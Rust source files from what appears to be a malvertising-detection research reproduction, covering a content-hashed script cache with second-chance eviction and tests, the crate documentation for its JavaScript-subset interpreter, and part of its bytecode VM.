    pub fn chunk(&self) -> Arc<Chunk> {
        self.vm
            .get_or_init(|| Arc::new(crate::compile::compile_program(&self.program)))
            .clone()
    }
}

/// FNV-1a 64-bit over the source bytes.
fn content_hash(src: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in src.as_bytes() {
        h ^= u64::from(*b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// A point-in-time snapshot of [`ScriptStats`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ScriptCounts {
    /// Compile requests answered (cache hits included).
    pub lookups: u64,
    /// Requests answered with an already-compiled program.
    pub cache_hits: u64,
    /// Requests that ran the lexer + parser.
    pub cache_misses: u64,
    /// Bytecode instructions dispatched by the VM engine.
    pub bytecode_dispatches: u64,
    /// VM inline-cache hits (property and global accesses).
    pub inline_cache_hits: u64,
    /// VM inline-cache misses (cold or invalidated-by-shape accesses).
    pub inline_cache_misses: u64,
    /// Property IC hits certified by a hidden-class shape check (a subset
    /// of `inline_cache_hits`; global-binding hits are not shape-checked).
    pub shape_hits: u64,
    /// Property appends the VM performed — hidden-class transitions taken
    /// by object-literal inserts and first-writes of a key.
    pub shape_transitions: u64,
}

/// Shared script-cache counters. Cloning hands out another handle to the
/// same tallies; all counters are relaxed atomics (pure tallies, no
/// ordering obligations).
#[derive(Debug, Clone, Default)]
pub struct ScriptStats {
    inner: Arc<StatsInner>,
}

#[derive(Debug, Default)]
struct StatsInner {
    lookups: AtomicU64,
    hits: AtomicU64,
    misses: AtomicU64,
    dispatches: AtomicU64,
    ic_hits: AtomicU64,
    ic_misses: AtomicU64,
    shape_hits: AtomicU64,
    shape_transitions: AtomicU64,
}

impl ScriptStats {
    /// Fresh zeroed counters.
    pub fn new() -> Self {
        Self::default()
    }

    /// Compile requests answered so far (cache hits included).
    pub fn lookups(&self) -> u64 {
        self.inner.lookups.load(Ordering::Relaxed)
    }

    /// Requests answered with an already-compiled program.
    pub fn cache_hits(&self) -> u64 {
        self.inner.hits.load(Ordering::Relaxed)
    }

    /// Requests that ran the lexer + parser.
    pub fn cache_misses(&self) -> u64 {
        self.inner.misses.load(Ordering::Relaxed)
    }

    /// Bytecode instructions dispatched by the VM engine.
    pub fn bytecode_dispatches(&self) -> u64 {
        self.inner.dispatches.load(Ordering::Relaxed)
    }

    /// VM inline-cache hits.
    pub fn inline_cache_hits(&self) -> u64 {
        self.inner.ic_hits.load(Ordering::Relaxed)
    }

    /// VM inline-cache misses.
    pub fn inline_cache_misses(&self) -> u64 {
        self.inner.ic_misses.load(Ordering::Relaxed)
    }

    /// Shape-certified property IC hits.
    pub fn shape_hits(&self) -> u64 {
        self.inner.shape_hits.load(Ordering::Relaxed)
    }

    /// Hidden-class transitions performed by VM property appends.
    pub fn shape_transitions(&self) -> u64 {
        self.inner.shape_transitions.load(Ordering::Relaxed)
    }

    /// Snapshots every counter at once.
    pub fn snapshot(&self) -> ScriptCounts {
        ScriptCounts {
            lookups: self.lookups(),
            cache_hits: self.cache_hits(),
            cache_misses: self.cache_misses(),
            bytecode_dispatches: self.bytecode_dispatches(),
            inline_cache_hits: self.inline_cache_hits(),
            inline_cache_misses: self.inline_cache_misses(),
            shape_hits: self.shape_hits(),
            shape_transitions: self.shape_transitions(),
        }
    }

    /// Adds a VM-counter delta (dispatches, IC hits/misses, shape hits and
    /// transitions) — called by the interpreter when it flushes per-run
    /// counters.
    pub(crate) fn record_vm(
        &self,
        dispatches: u64,
        ic_hits: u64,
        ic_misses: u64,
        shape_hits: u64,
        shape_transitions: u64,
    ) {
        self.inner
            .dispatches
            .fetch_add(dispatches, Ordering::Relaxed);
        self.inner.ic_hits.fetch_add(ic_hits, Ordering::Relaxed);
        self.inner.ic_misses.fetch_add(ic_misses, Ordering::Relaxed);
        self.inner
            .shape_hits
            .fetch_add(shape_hits, Ordering::Relaxed);
        self.inner
            .shape_transitions
            .fetch_add(shape_transitions, Ordering::Relaxed);
    }

    fn record_hit(&self) {
        self.inner.lookups.fetch_add(1, Ordering::Relaxed);
        self.inner.hits.fetch_add(1, Ordering::Relaxed);
    }

    fn record_miss(&self) {
        self.inner.lookups.fetch_add(1, Ordering::Relaxed);
        self.inner.misses.fetch_add(1, Ordering::Relaxed);
    }
}

/// A bounded, content-hash-keyed cache of compiled scripts, shared
/// read-mostly across workers. Cloning hands out another handle to the
/// same cache.
#[derive(Debug, Clone)]
pub struct ScriptCache {
    inner: Arc<CacheInner>,
}

/// A cached program plus its second-chance reference bit.
#[derive(Debug)]
struct CacheSlot {
    script: CompiledScript,
    /// Set on every cache hit, cleared when the clock hand sweeps past.
    hot: bool,
}

/// The bounded map plus the clock ring that orders eviction candidates.
///
/// Eviction is segmented second-chance (CLOCK): the ring holds entry ids in
/// insertion order; a victim search pops the front, and an entry whose `hot`
/// bit is set is demoted to cold and rotated to the back instead of being
/// evicted. The hot half of the working set therefore survives capacity
/// pressure — a long-lived daemon no longer sees the refill/clear sawtooth
/// that a wholesale `clear()` produced.
#[derive(Debug, Default)]
struct CacheMap {
    slots: HashMap<u64, CacheSlot>,
    ring: VecDeque<u64>,
}

impl CacheMap {
    fn len(&self) -> usize {
        self.slots.len()
    }

    /// Evicts exactly one entry by the second-chance rule. Terminates in at
    /// most `2 * ring.len()` steps: every rotation clears a `hot` bit, so a
    /// full lap leaves the whole ring cold.
    fn evict_one(&mut self) {
        while let Some(id) = self.ring.pop_front() {
            match self.slots.get_mut(&id) {
                Some(slot) if slot.hot => {
                    slot.hot = false;
                    self.ring.push_back(id);
                }
                Some(_) => {
                    self.slots.remove(&id);
                    return;
                }
                // Stale ring entry (never produced today, but harmless).
                None => {}
            }
        }
    }

    fn insert(&mut self, id: u64, script: CompiledScript, capacity: usize) {
        if self.slots.contains_key(&id) {
            // Lost a compile race: another worker stored this id between our
            // lookup and this insert. Keep the incumbent (byte-identical
            // program) and leave the ring untouched.
            return;
        }
        while self.slots.len() >= capacity {
            self.evict_one();
        }
        self.slots.insert(id, CacheSlot { script, hot: false });
        self.ring.push_back(id);
    }
}

#[derive(Debug)]
struct CacheInner {
    capacity: usize,
    map: Mutex<CacheMap>,
    stats: ScriptStats,
}

impl ScriptCache {
    /// A fresh cache. `capacity` bounds the entry count (0 disables
    /// caching); `stats` receives this cache's tallies.
    pub fn new(capacity: usize, stats: ScriptStats) -> Self {
        ScriptCache {
            inner: Arc::new(CacheInner {
                capacity,
                map: Mutex::new(CacheMap::default()),
                stats,
            }),
        }
    }

    /// The stats handle this cache records into.
    pub fn stats(&self) -> &ScriptStats {
        &self.inner.stats
    }

    /// The cache's current entry count (for tests and diagnostics).
    pub fn len(&self) -> usize {
        self.lock().len()
    }

    /// Whether the cache currently holds no entries.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    fn lock(&self) -> MutexGuard<'_, CacheMap> {
        match self.inner.map.lock() {
            Ok(g) => g,
            // A panic while holding the lock can only leave a fully-formed
            // map behind (we never insert partial entries); keep serving.
            Err(poisoned) => poisoned.into_inner(),
        }
    }

    /// Compiles `src`, consulting the cache first. Returns exactly what
    /// [`CompiledScript::compile`] would — a hit requires byte-identical
    /// stored source, so caching is invisible in the result.
    pub fn compile(&self, src: &str) -> Result<CompiledScript, ScriptError> {
        if self.inner.capacity == 0 {
            self.inner.stats.record_miss();
            return CompiledScript::compile(src);
        }
        let id = content_hash(src);
        // `None` = absent, `Some(None)` = hash collision with different
        // source. Resolve the guard before compiling so the parser never
        // runs under the lock.
        let cached: Option<Option<CompiledScript>> = {
            let mut map = self.lock();
            map.slots.get_mut(&id).map(|slot| {
                if slot.script.source() == src {
                    slot.hot = true;
                    Some(slot.script.clone())
                } else {
                    None
                }
            })
        };
        match cached {
            Some(Some(hit)) => {
                self.inner.stats.record_hit();
                Ok(hit)
            }
            Some(None) => {
                // Collision: compile uncached, leave the stored entry alone.
                self.inner.stats.record_miss();
                CompiledScript::compile(src)
            }
            None => {
                self.inner.stats.record_miss();
                let compiled = CompiledScript::compile(src)?;
                let mut map = self.lock();
                map.insert(id, compiled.clone(), self.inner.capacity);
                Ok(compiled)
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn compile_splits_from_execution() {
        let script = CompiledScript::compile("var x = 1 + 2; out = x;").unwrap();
        assert_eq!(script.source(), "var x = 1 + 2; out = x;");
        assert_eq!(script.id(), content_hash("var x = 1 + 2; out = x;"));
        assert!(!script.program().body.is_empty());
    }

    #[test]
    fn cache_hits_return_the_same_program() {
        let stats = ScriptStats::new();
        let cache = ScriptCache::new(64, stats.clone());
        let a = cache.compile("out = 1;").unwrap();
        let b = cache.compile("out = 1;").unwrap();
        assert!(Arc::ptr_eq(&a.program, &b.program));
        assert_eq!(a.id(), b.id());
        let counts = stats.snapshot();
        assert_eq!(counts.lookups, 2);
        assert_eq!(counts.cache_hits, 1);
        assert_eq!(counts.cache_misses, 1);
    }

    #[test]
    fn distinct_sources_are_distinct_entries() {
        let cache = ScriptCache::new(64, ScriptStats::new());
        cache.compile("out = 1;").unwrap();
        cache.compile("out = 2;").unwrap();
        assert_eq!(cache.len(), 2);
    }

    #[test]
    fn capacity_bounds_entries_and_zero_disables() {
        let cache = ScriptCache::new(4, ScriptStats::new());
        for i in 0..100 {
            cache.compile(&format!("out = {i};")).unwrap();
        }
        assert!(cache.len() <= 4, "cache exceeded capacity");

        let stats = ScriptStats::new();
        let cache = ScriptCache::new(0, stats.clone());
        cache.compile("out = 1;").unwrap();
        cache.compile("out = 1;").unwrap();
        assert!(cache.is_empty());
        let counts = stats.snapshot();
        assert_eq!(counts.cache_hits, 0);
        assert_eq!(counts.cache_misses, 2);
    }

    #[test]
    fn eviction_keeps_the_hot_working_set() {
        // Regression: the old policy cleared the whole map at capacity, so
        // one cold insert dumped every hot entry. Second-chance eviction
        // must keep a recently-hit entry across capacity pressure.
        let stats = ScriptStats::new();
        let cache = ScriptCache::new(4, stats.clone());
        for src in ["out = 'a';", "out = 'b';", "out = 'c';", "out = 'd';"] {
            cache.compile(src).unwrap();
        }
        cache.compile("out = 'a';").unwrap(); // mark 'a' hot
        assert_eq!(stats.cache_hits(), 1);
        cache.compile("out = 'e';").unwrap(); // forces one eviction
        assert_eq!(cache.len(), 4, "eviction removed more than one entry");
        cache.compile("out = 'a';").unwrap();
        assert_eq!(
            stats.cache_hits(),
            2,
            "the hot entry was evicted by a single cold insert"
        );
    }

    #[test]
    fn eviction_victims_are_the_cold_entries() {
        let stats = ScriptStats::new();
        let cache = ScriptCache::new(4, stats.clone());
        for src in ["out = 'a';", "out = 'b';", "out = 'c';", "out = 'd';"] {
            cache.compile(src).unwrap();
        }
        // Heat everything except 'b': the first eviction's victim must be
        // 'b', the only cold entry.
        for src in ["out = 'a';", "out = 'c';", "out = 'd';"] {
            cache.compile(src).unwrap();
        }
        cache.compile("out = 'e';").unwrap();
        // Re-heat 'a' (the first sweep consumed its reference bit), then
        // insert another newcomer: the victim must be cold 'e', not 'a'.
        cache.compile("out = 'a';").unwrap();
        let hits_before = stats.cache_hits();
        cache.compile("out = 'b';").unwrap();
        assert_eq!(
            stats.cache_hits(),
            hits_before,
            "cold 'b' survived eviction"
        );
        cache.compile("out = 'a';").unwrap();
        assert_eq!(stats.cache_hits(), hits_before + 1, "hot 'a' was evicted");
    }

    #[test]
    fn eviction_is_deterministic_across_capacities() {
        // Differential check: for capacities {0, 1, 4, 4096}, the same
        // single-threaded workload replayed through two fresh caches yields
        // identical compile results and identical `ScriptCounts` — the
        // eviction policy is a pure function of the request sequence.
        let workload: Vec<String> = (0..64).map(|i| format!("out = {};", i % 12)).collect();
        for capacity in [0usize, 1, 4, 4096] {
            let runs: Vec<(Vec<u64>, ScriptCounts, usize)> = (0..2)
                .map(|_| {
                    let stats = ScriptStats::new();
                    let cache = ScriptCache::new(capacity, stats.clone());
                    let ids = workload
                        .iter()
                        .map(|src| {
                            let compiled = cache.compile(src).unwrap();
                            // A cached compile is invisible in the result.
                            let direct = CompiledScript::compile(src).unwrap();
                            assert_eq!(compiled.id(), direct.id());
                            assert_eq!(compiled.source(), direct.source());
                            compiled.id()
                        })
                        .collect();
                    (ids, stats.snapshot(), cache.len())
                })
                .collect();
            assert_eq!(runs[0], runs[1], "capacity {capacity} replay diverged");
            let (_, counts, len) = &runs[0];
            assert_eq!(counts.lookups, 64);
            assert!(*len <= capacity, "capacity {capacity} overflowed");
            if capacity == 0 {
                assert_eq!(counts.cache_hits, 0, "disabled cache produced hits");
            }
            if capacity >= 12 {
                // Working set fits: every repeat is a hit.
                assert_eq!(counts.cache_misses, 12);
            }
        }
    }

    #[test]
    fn capacity_one_cycles_without_stalling() {
        let stats = ScriptStats::new();
        let cache = ScriptCache::new(1, stats.clone());
        cache.compile("out = 1;").unwrap();
        cache.compile("out = 1;").unwrap(); // hot
        cache.compile("out = 2;").unwrap(); // must evict the sole (hot) entry
        assert_eq!(cache.len(), 1);
        cache.compile("out = 2;").unwrap();
        assert_eq!(stats.cache_hits(), 2);
    }

    #[test]
    fn parse_failures_are_not_cached() {
        let stats = ScriptStats::new();
        let cache = ScriptCache::new(64, stats.clone());
        assert!(cache.compile("var = ;").is_err());
        assert!(cache.compile("var = ;").is_err());
        assert!(cache.is_empty());
        let counts = stats.snapshot();
        assert_eq!(counts.cache_misses, 2);
    }

    #[test]
    fn shared_handles_see_one_cache() {
        let stats = ScriptStats::new();
        let cache = ScriptCache::new(64, stats.clone());
        let other = cache.clone();
        cache.compile("out = 'shared';").unwrap();
        other.compile("out = 'shared';").unwrap();
        assert_eq!(stats.cache_hits(), 1);
        assert_eq!(other.len(), 1);
    }

    #[test]
    fn concurrent_compiles_agree() {
        let cache = ScriptCache::new(64, ScriptStats::new());
        let ids: Vec<u64> = std::thread::scope(|s| {
            (0..4)
                .map(|_| {
                    let cache = cache.clone();
                    s.spawn(move || cache.compile("out = 40 + 2;").unwrap().id())
                })
                .collect::<Vec<_>>()
                .into_iter()
                .map(|h| h.join().unwrap())
                .collect()
        });
        assert!(ids.windows(2).all(|w| w[0] == w[1]));
    }
}
