//! # malvert-adscript
//!
//! **AdScript** — a from-scratch interpreter for the JavaScript subset that
//! simulated advertisements are written in.
//!
//! The paper's oracle is built around Wepawet, a honeyclient that *executes*
//! the JavaScript delivered with an advertisement and watches what it does
//! (§3.2.1). For the reproduction to exercise the same code path, our
//! advertisements are real programs: the drive-by creative probes
//! `navigator.plugins` and assembles an exploit URL character by character;
//! the deceptive creative rewrites the document into a fake video player; the
//! hijack creative assigns `top.location`. Detection therefore requires
//! actually running the script inside an instrumented browser — which is what
//! the `malvert-browser` crate does, using this interpreter.
//!
//! ## Supported language subset
//!
//! * Statements: `var`, expression statements, blocks, `if`/`else`, `while`,
//!   `do`/`while`, C-style `for`, `function` declarations, `return`, `break`,
//!   `continue`, `throw`, `try`/`catch`/`finally`.
//! * Expressions: numeric/string/bool/`null`/`undefined` literals, array and
//!   object literals, function expressions, assignment (incl. `+=` family),
//!   conditional `?:`, `||`/`&&`, equality (`==`, `!=`, `===`, `!==`),
//!   relational, additive/multiplicative/`%`, unary `-`/`+`/`!`/`typeof`,
//!   pre/post `++`/`--`, member access (`a.b`, `a[b]`), calls, `new`.
//! * Semantics: JS-style `+` overloading (string concatenation), loose and
//!   strict equality, truthiness, closures, `this` binding on method calls.
//! * A standard-library core: `String.fromCharCode`, string methods
//!   (`charCodeAt`, `charAt`, `indexOf`, `substring`, `slice`, `split`,
//!   `replace`, `toLowerCase`, `toUpperCase`), array methods (`push`, `pop`,
//!   `join`, `length`), `Math.floor`/`ceil`/`abs`/`max`/`min`/`random`
//!   (deterministic, seeded), `parseInt`, `parseFloat`, `unescape`, and
//!   `eval` — the obfuscation workhorse.
//!
//! ## Not supported (by design)
//!
//! Prototypes, getters/setters, `with`, labels, `for..in`, regular
//! expressions, and the full numeric-format zoo. Scripts using unsupported
//! syntax produce a [`ScriptError::Parse`] which the honeyclient records,
//! mirroring how Wepawet logs scripts it cannot analyze.
//!
//! ## Safety rails
//!
//! Execution is bounded by a configurable step budget and recursion limit
//! ([`interp::Limits`]): a malicious (or simply looping) advertisement cannot
//! hang the crawler. Exhaustion surfaces as [`ScriptError::BudgetExhausted`].
//!
//! ## Compile once, execute everywhere
//!
//! Compilation (lex + parse + name resolution) is split from execution:
//! [`CompiledScript`] holds a resolved, `Send + Sync` program keyed by a
//! content hash of its source, and a bounded [`ScriptCache`] shares
//! compilations across crawler workers — the same creative served to
//! thousands of simulated visitors is parsed once. Identifiers are interned
//! at parse time and local variable references are resolved to scope/slot
//! indices, so the interpreter's hot path indexes a `Vec` instead of probing
//! a `HashMap`. Cache hits require byte-identical source, so caching can
//! never change what a script computes (see [`cache`] for the contract).
//!
//! ## Two engines, one semantics
//!
//! Execution has two interchangeable engines selected by [`ScriptEngine`]:
//!
//! * **Tree-walk** ([`interp`]) — the original recursive evaluator, retained
//!   as the differential oracle. Simple, obviously correct, slow.
//! * **Bytecode VM** ([`bytecode`] + the `vm` module) — the default. Each
//!   [`CompiledScript`] lazily lowers its resolved AST to a compact
//!   [`bytecode::Chunk`]; a stack machine executes it over the same
//!   data-oriented heap ([`heap::NameMap`] property storage, [`heap::Sym`]
//!   interned natives), with frame-local monomorphic inline caches for
//!   property and global accesses. The two engines share the environment
//!   chain, heap, stdlib, and host dispatch, and charge the identical step
//!   budget — so any observable divergence (including *where* a script dies
//!   of budget exhaustion) is a bug, and the differential test suite asserts
//!   there is none.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod ast;
pub mod bytecode;
pub mod cache;
mod compile;
pub mod heap;
pub mod interp;
pub mod lexer;
pub mod parser;
mod resolve;
pub mod stdlib;
pub mod value;
mod vm;

pub use cache::{CompiledScript, ScriptCache, ScriptCounts, ScriptStats};
pub use heap::{NameMap, Sym};
pub use interp::{Host, Interpreter, Limits, NoHost};
pub use parser::parse_program;
pub use value::{ObjId, Value};

/// Which execution engine runs compiled scripts.
///
/// Both engines share the runtime (heap, environments, stdlib, host) and
/// charge the identical step budget, so they are observably equivalent; the
/// tree-walk engine is retained as the differential oracle for the VM.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum ScriptEngine {
    /// The recursive AST evaluator — the differential oracle.
    TreeWalk,
    /// The bytecode VM with inline caches — the default, ~3-4× faster on
    /// execution-heavy creatives (see `BENCH_adscript.json`).
    #[default]
    Vm,
}

impl ScriptEngine {
    /// Canonical lowercase name (`"tree-walk"` / `"vm"`).
    pub fn as_str(&self) -> &'static str {
        match self {
            ScriptEngine::TreeWalk => "tree-walk",
            ScriptEngine::Vm => "vm",
        }
    }
}

impl std::fmt::Display for ScriptEngine {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

impl std::str::FromStr for ScriptEngine {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.trim().to_ascii_lowercase().as_str() {
            "tree-walk" | "treewalk" | "tree_walk" | "oracle" => Ok(ScriptEngine::TreeWalk),
            "vm" | "bytecode" => Ok(ScriptEngine::Vm),
            other => Err(format!(
                "unknown script engine {other:?} (expected \"vm\" or \"tree-walk\")"
            )),
        }
    }
}

/// Errors surfaced to the embedder.
#[derive(Debug, Clone, PartialEq)]
pub enum ScriptError {
    /// Lexing or parsing failed.
    Parse(String),
    /// A runtime error (JS `throw` that escaped, type errors, missing refs).
    Runtime(String),
    /// The step budget or recursion limit was exhausted.
    BudgetExhausted,
}

impl std::fmt::Display for ScriptError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ScriptError::Parse(m) => write!(f, "parse error: {m}"),
            ScriptError::Runtime(m) => write!(f, "runtime error: {m}"),
            ScriptError::BudgetExhausted => write!(f, "script exceeded execution budget"),
        }
    }
}

impl std::error::Error for ScriptError {}
