//! The bytecode VM: a stack machine over the tree-walk interpreter's
//! runtime.
//!
//! `run_chunk` executes one [`Chunk`] against the *same* environment chain,
//! heap, and host the tree-walk engine uses — the VM replaces only the
//! dispatch layer (AST recursion → a flat op loop), so every helper it
//! calls (`get_property`, `binop`, `call_function`, …) is the oracle's own
//! code. Four things are VM-specific:
//!
//! * **Tagged stack words.** The operand stack holds NaN-boxed
//!   [`Word`]s, not `Value`s: numbers, booleans, `null`/`undefined`,
//!   object handles, and chunk constants are `Copy` and never touch an
//!   allocator. The rare heavy values (runtime strings, closures,
//!   natives) live in a per-interpreter side arena (`vm_boxed`) indexed
//!   by `BOXED` words, truncated back to a watermark when the activation
//!   that pushed them exits. Each arena slot has exactly one owning word
//!   (`Dup` re-boxes), so consuming the top-most box *moves* the value
//!   out instead of cloning it.
//! * **Shape-based inline caches.** Each chunk declares `ic_count` cache
//!   slots, materialized once per `(interpreter, chunk)` pair and shared
//!   by every activation. Property caches key on the receiver's
//!   [`ShapeId`] — the interned hidden-class certificate of its exact
//!   key layout — so one warm cache serves *every* plain object built by
//!   the same insertion sequence (`PropShape`), and a shape-checked
//!   write-miss caches the transition itself (`PropAdd`), turning
//!   repeated "first write of key K to shape S" into an index-free
//!   append. Persistence needs no invalidation: map entries never move,
//!   shapes are immutable interned tree nodes, missing properties are
//!   never cached, and every hit re-checks the receiver's current shape.
//!   Global caches remember the root environment's entry index (sound
//!   because program chunks only ever execute in the root environment,
//!   whose static scope is empty).
//! * **Merged budget charges.** [`Op::Charge`] deducts the accumulated
//!   step count the tree-walk engine would have charged one-by-one;
//!   exhaustion pins the budget to zero exactly like the failing step.
//! * **Dynamic flow redirection.** A break/continue signal surfacing from a
//!   call or a tree-walked subtree is redirected to the innermost enclosing
//!   compiled-loop target recorded in [`Chunk::ranges`]; a return signal
//!   becomes the chunk's return value (the tree-walk's `run_body` /
//!   `call_function` do the same catch).

use crate::ast::BinOp;
use crate::bytecode::{CVal, Chunk, Op, NO_IC};
use crate::heap::{shape_key, ShapeId};
use crate::interp::{to_i32, to_u32, Flow, Host, Interpreter};
use crate::stdlib;
use crate::value::{ObjId, ObjKind, Value, Word, TAG_BOXED, TAG_CONST, TAG_OBJ};
use crate::ScriptError;
use std::cell::Cell;
use std::rc::Rc;
use std::sync::Arc;

/// Per-interpreter runtime state for one chunk: the materialized constant
/// pool (as `Value`s for the slow path and pre-encoded `Word`s for
/// `Op::Const`), and the persistent inline-cache slots, all shared by every
/// activation. Keyed by chunk address in `vm_chunks`; the keepalive `Arc`
/// pins the address so a key can never be reused.
pub(crate) struct ChunkState {
    _keep: Arc<Chunk>,
    consts: Rc<[Value]>,
    words: Rc<[Word]>,
    ics: Rc<[Cell<Ic>]>,
}

/// One monomorphic inline-cache slot. Persistent: allocated once per
/// `(interpreter, chunk)` and shared across activations, so a hot function
/// stays warm call after call. Persistence is sound without invalidation —
/// map entries never move, shapes are immutable interned nodes, misses are
/// never cached, and property hits re-check the receiver's current shape.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Ic {
    /// Never executed (or last shape was uncacheable).
    Empty,
    /// Plain-object property: any receiver whose map certifies `shape`
    /// holds the cached key at entry `idx`. Serves reads and
    /// overwrite-writes for *every* object with this layout, not just the
    /// one that warmed the cache.
    PropShape {
        /// The hidden class this cache is specialized to.
        shape: ShapeId,
        /// Stable entry index of the property under that shape.
        idx: u32,
    },
    /// Plain-object property *append*: a receiver whose map certifies
    /// `from` is proven not to contain the key, so the write appends it
    /// and moves the map to `to` (the interned `from → key` transition).
    PropAdd {
        /// Receiver shape that proves the key is absent.
        from: ShapeId,
        /// The shape the append transitions the receiver to.
        to: ShapeId,
    },
    /// Root-environment binding at this stable entry index.
    Global(u32),
}

/// Pops the operand stack. Compiled stack discipline guarantees the value
/// is present; underflow is a compiler bug, not a script error.
#[inline(always)]
fn pop(stack: &mut Vec<Word>) -> Word {
    stack.pop().expect("vm stack underflow")
}

/// The numeric fast path of `Bin`/`BinConst`: for two inline numbers every
/// operator except `In` (which probes the heap) is a pure function of the
/// two `f64`s, mirroring the oracle's `binop` arm for `Num`/`Num` operands
/// bit for bit — including `Instanceof`'s constant `false` and the
/// `to_i32`/`to_u32` clamping of the bitwise family.
#[inline(always)]
fn num_binop(op: BinOp, a: f64, b: f64) -> Option<Word> {
    Some(match op {
        BinOp::Add => Word::num(a + b),
        BinOp::Sub => Word::num(a - b),
        BinOp::Mul => Word::num(a * b),
        BinOp::Div => Word::num(a / b),
        BinOp::Mod => Word::num(a % b),
        // `loose_eq` and `strict_eq` both reduce to `f64 ==` for numbers.
        BinOp::EqLoose | BinOp::EqStrict => Word::bool(a == b),
        BinOp::NeLoose | BinOp::NeStrict => Word::bool(a != b),
        BinOp::Lt => Word::bool(a < b),
        BinOp::Gt => Word::bool(a > b),
        BinOp::Le => Word::bool(a <= b),
        BinOp::Ge => Word::bool(a >= b),
        BinOp::BitAnd => Word::num((to_i32(a) & to_i32(b)) as f64),
        BinOp::BitOr => Word::num((to_i32(a) | to_i32(b)) as f64),
        BinOp::BitXor => Word::num((to_i32(a) ^ to_i32(b)) as f64),
        BinOp::Shl => Word::num((to_i32(a) << (to_u32(b) & 31)) as f64),
        BinOp::Shr => Word::num((to_i32(a) >> (to_u32(b) & 31)) as f64),
        BinOp::UShr => Word::num((to_u32(a) >> (to_u32(b) & 31)) as f64),
        BinOp::Instanceof => Word::FALSE,
        BinOp::In => return None,
    })
}

impl<H: Host> Interpreter<H> {
    /// Materializes a chunk's runtime state — the constant pool as runtime
    /// values (`Value::Str` is `Rc`-backed and thread-local, so the shared
    /// `Arc<str>` pool cannot be used directly), the pre-encoded word form
    /// of each constant (numbers inline, strings as `CONST` handles), and
    /// the persistent inline-cache slots — once per interpreter. Keyed by
    /// chunk address; the keepalive `Arc` makes address reuse impossible.
    #[allow(clippy::type_complexity)]
    fn chunk_state(&mut self, chunk: &Arc<Chunk>) -> (Rc<[Value]>, Rc<[Word]>, Rc<[Cell<Ic>]>) {
        let key = Arc::as_ptr(chunk) as usize;
        if let Some(state) = self.vm_chunks.get(&key) {
            return (state.consts.clone(), state.words.clone(), state.ics.clone());
        }
        let consts: Rc<[Value]> = chunk
            .consts
            .iter()
            .map(|c| match c {
                CVal::Num(n) => Value::Num(*n),
                CVal::Str(s) => Value::Str(Rc::from(&**s)),
            })
            .collect();
        let words: Rc<[Word]> = chunk
            .consts
            .iter()
            .enumerate()
            .map(|(i, c)| match c {
                CVal::Num(n) => Word::num(*n),
                CVal::Str(_) => Word::cnst(i as u32),
            })
            .collect();
        let ics: Rc<[Cell<Ic>]> = (0..chunk.ic_count).map(|_| Cell::new(Ic::Empty)).collect();
        self.vm_chunks.insert(
            key,
            ChunkState {
                _keep: chunk.clone(),
                consts: consts.clone(),
                words: words.clone(),
                ics: ics.clone(),
            },
        );
        (consts, words, ics)
    }

    /// Moves a heavy value into the boxed side arena, returning its owning
    /// word. One live word per arena index is the invariant that lets
    /// [`Interpreter::take_value`] move the top box out without a clone.
    #[inline(always)]
    fn box_value(&mut self, v: Value) -> Word {
        debug_assert!(self.vm_boxed.len() < u32::MAX as usize);
        let idx = self.vm_boxed.len() as u32;
        self.vm_boxed.push(v);
        Word::boxed(idx)
    }

    /// Encodes an owned `Value` produced by shared runtime helpers into a
    /// stack word. Numbers, booleans, singletons, and object handles stay
    /// inline; everything else is boxed.
    #[inline(always)]
    fn value_word(&mut self, v: Value) -> Word {
        match v {
            Value::Undefined => Word::UNDEF,
            Value::Null => Word::NULL,
            Value::Bool(b) => Word::bool(b),
            Value::Num(n) => Word::num(n),
            Value::Obj(id) => Word::obj(id),
            other => self.box_value(other),
        }
    }

    /// Word encoding straight off a borrowed `Value` — the IC hit paths use
    /// this to skip the owned clone entirely for inline-encodable kinds.
    /// `None` means the value is heap-weight and the caller must clone+box.
    #[inline(always)]
    fn word_from_ref(v: &Value) -> Option<Word> {
        Some(match v {
            Value::Undefined => Word::UNDEF,
            Value::Null => Word::NULL,
            Value::Bool(b) => Word::bool(*b),
            Value::Num(n) => Word::num(*n),
            Value::Obj(id) => Word::obj(*id),
            _ => return None,
        })
    }

    /// Encodes and pushes in one step; see [`Interpreter::value_word`].
    #[inline(always)]
    fn push_value(&mut self, stack: &mut Vec<Word>, v: Value) {
        let w = self.value_word(v);
        stack.push(w);
    }

    /// Decodes a word into an owned `Value`, *consuming* the word: a boxed
    /// word whose slot sits at the arena top moves the value out (LIFO —
    /// the overwhelmingly common case by stack discipline); a buried box
    /// clones and leaves the slot for the activation-exit truncate.
    fn take_value(&mut self, consts: &[Value], w: Word) -> Value {
        if w.is_num() {
            return Value::Num(w.as_num());
        }
        match w.tag() {
            TAG_OBJ => Value::Obj(ObjId(w.payload() as usize)),
            TAG_CONST => consts[w.payload() as usize].clone(),
            TAG_BOXED => {
                let idx = w.payload() as usize;
                if idx + 1 == self.vm_boxed.len() {
                    self.vm_boxed.pop().expect("boxed arena underflow")
                } else {
                    self.vm_boxed[idx].clone()
                }
            }
            _ => match w {
                Word::NULL => Value::Null,
                Word::TRUE => Value::Bool(true),
                Word::FALSE => Value::Bool(false),
                _ => Value::Undefined,
            },
        }
    }

    /// Decodes a word into a `Value` without consuming it — for receivers
    /// that stay on the stack (`GetMethod`). Boxed slots are cloned, never
    /// reclaimed, because the word still owns them.
    fn peek_value(&self, consts: &[Value], w: Word) -> Value {
        if w.is_num() {
            return Value::Num(w.as_num());
        }
        match w.tag() {
            TAG_OBJ => Value::Obj(ObjId(w.payload() as usize)),
            TAG_CONST => consts[w.payload() as usize].clone(),
            TAG_BOXED => self.vm_boxed[w.payload() as usize].clone(),
            _ => match w {
                Word::NULL => Value::Null,
                Word::TRUE => Value::Bool(true),
                Word::FALSE => Value::Bool(false),
                _ => Value::Undefined,
            },
        }
    }

